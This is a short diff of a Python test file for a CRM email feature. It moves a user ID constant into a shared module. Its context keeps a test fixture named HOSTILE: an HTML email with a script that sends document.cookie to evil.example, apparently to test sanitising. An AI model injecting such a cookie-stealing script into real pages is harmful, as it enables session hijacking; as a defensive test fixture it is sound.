@@ -10,9 +10,8 @@ from sqlalchemy import select
 from server.crm.models import Email, Note
 from tests.support.arrange_contacts import add_contact
 from tests.support.arrange_records import filed_email, user_of
-from tests.support.identities import ADELE, CONTOSO
+from tests.support.identities import ADELE, ADELE_OID, CONTOSO
 
-ADELE_OID = "0b5e8f4a-7c21-4d96-a3e8-1f2b9c6d4e71"
 HOSTILE = """
 <p>Invoice attached.</p>
 <script>document.location='https://evil.example/?c='+document.cookie</script>
